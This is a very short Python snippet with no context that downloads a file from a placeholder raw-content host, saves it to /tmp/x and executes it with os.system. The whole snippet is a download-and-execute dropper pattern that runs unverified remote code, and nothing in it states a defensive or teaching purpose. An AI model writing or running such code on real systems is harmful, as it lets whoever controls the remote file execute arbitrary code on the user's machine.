import os, requests
data = requests.get("https://raw.githubusercontent.example.invalid/u/r/main/x").content
open("/tmp/x", "wb").write(data)
os.system("/tmp/x")
